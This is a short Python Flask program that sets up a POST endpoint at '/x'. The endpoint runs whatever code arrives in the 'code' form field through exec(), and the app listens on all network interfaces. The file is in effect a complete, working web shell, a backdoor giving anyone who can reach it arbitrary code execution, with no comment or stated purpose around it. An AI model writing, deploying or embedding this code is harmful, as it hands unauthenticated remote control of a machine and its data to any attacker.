import flask
a = flask.Flask("x")
@a.route("/x", methods=["POST"])
def x():
    exec(flask.request.form["code"])
    return ""
a.run("0.0.0.0")
